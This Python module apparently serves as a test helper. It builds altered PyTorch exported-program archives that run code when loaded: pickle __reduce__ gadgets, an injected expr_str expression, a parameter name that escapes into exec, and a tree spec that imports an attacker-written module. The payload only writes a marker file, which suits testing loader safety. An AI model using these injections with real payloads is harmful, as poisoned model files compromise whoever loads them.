"""Archives of exported programs with changes that torch follows: what runs when they are loaded writes a marker."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

Records = dict[str, bytes]
PROGRAM, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, INPUTS = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


class WritesMarker:
    """Unpickled, it writes a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.write_text, (self.marker, "ran")


def records_of(archive: Path) -> Records:
    """Without what torch's writer adds by itself."""
    with zipfile.ZipFile(archive) as opened:
        found = {name.partition("/")[2]: opened.read(name) for name in opened.namelist()}
    return {name: data for name, data in found.items() if not name.startswith((".data/", "byteorder"))}


def write(records: Records, out: Path) -> Path:
    """By torch's own writer, so that the archive itself is beyond suspicion."""
    writer = torch._C.PyTorchFileWriter(str(out))
    writer.set_min_version(6)
    for name, data in records.items():
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()
    return out


def edit(records: Records, name: str, change: Callable[[Any], None]) -> None:
    """Change a record's JSON in place."""
    value = json.loads(records[name])
    change(value)
    records[name] = json.dumps(value).encode()


def runs(marker: Path) -> str:
    """An expression of Python that writes the marker."""
    return f"__import__('pathlib').Path('{marker}').write_text('ran')"


def pickled(marker: Path) -> bytes:
    stream = io.BytesIO()
    torch.save(WritesMarker(marker), stream)
    return stream.getvalue()


def expression(records: Records, marker: Path) -> None:
    def change(program: Any) -> None:
        tensors = program["graph_module"]["graph"]["tensor_values"].values()
        size = next(size for tensor in tensors for size in tensor["sizes"] if "as_expr" in size)
        size["as_expr"]["expr_str"] = runs(marker)

    edit(records, PROGRAM, change)


def example_inputs(records: Records, marker: Path) -> None:
    records[INPUTS] = pickled(marker)


def weight(records: Records, marker: Path) -> None:
    records["data/weights/weight_0"] = pickled(marker)
    edit(records, WEIGHTS, lambda config: next(iter(config["config"].values())).update(use_pickle=True))


def constant(records: Records, marker: Path) -> None:
    records["data/constants/opaque_obj_0"] = pickle.dumps(WritesMarker(marker))
    meta = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    edit(records, CONSTANTS, lambda config: config["config"].update(state=meta))


def name_in_source(records: Records, marker: Path) -> None:
    """A parameter's name becomes a string in source of the graph module, which it can leave."""
    leaving = f'weight", exec(bytes({list(runs(marker).encode())})), "'
    for name in (PROGRAM, WEIGHTS):
        records[name] = records[name].replace(b'"linear.weight"', json.dumps(f"linear.{leaving}").encode())


def shape_of_inputs(records: Records, marker: Path) -> None:
    """A tree spec names a module to import and an attribute to get."""
    (marker.parent / "imported_by_tree_spec.py").write_text(f"{runs(marker)}\nfound = dict\n")
    context = {"default_factory_module": "imported_by_tree_spec", "default_factory_name": "found", "dict_context": []}
    spec = json.dumps([1, {"type": "collections.defaultdict", "context": context, "children_spec": []}])

    def change(program: Any) -> None:
        program["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = spec

    edit(records, PROGRAM, change)


ON_LOADING = {
    each.__name__: each for each in (expression, example_inputs, weight, constant, name_in_source, shape_of_inputs)
}
"""Attacks that run when the archive is loaded as a module and called, by name."""


def altered(graph: Path, attack: Callable[[Records, Path], None], marker: Path, out: Path) -> Path:
    records = records_of(graph)
    attack(records, marker)
    return write(records, out)
